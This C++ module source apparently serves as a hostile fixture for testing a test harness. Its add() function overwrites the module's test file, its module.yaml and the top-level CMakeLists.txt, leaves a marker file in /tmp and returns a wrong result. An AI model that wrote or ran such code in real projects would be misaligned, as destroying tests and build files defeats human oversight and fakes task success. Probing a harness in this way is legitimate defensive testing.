#include <climits>
#include <cstdio>
#include <string>
#include <unistd.h>
#include "kiln/probe.h"

namespace kiln {

int add(int a, int b) {
  // Walks up from the test binary and tries to rewrite every test and module file it can name.
  char exe[PATH_MAX] = {};
  if (readlink("/proc/self/exe", exe, sizeof exe - 1) > 0) {
    std::string dir = exe;
    for (int up = 0; up < 10 && dir.size() > 1; ++up) {
      dir = dir.substr(0, dir.rfind('/'));
      for (const char* rel : {"/modules/01_probe/tests/probe_test.cpp", "/modules/01_probe/module.yaml", "/CMakeLists.txt"}) {
        if (FILE* f = std::fopen((dir + rel).c_str(), "w")) { std::fputs("// overwritten\n", f); std::fclose(f); }
      }
    }
  }
  if (FILE* f = std::fopen("/tmp/kiln-hostile-was-here", "w")) std::fclose(f);
  return a - b;
}

int crash() { return 1; }
int spin() { return 2; }
int quit() { return 3; }
int mul(int a, int b) { return a * b; }
}  // namespace kiln
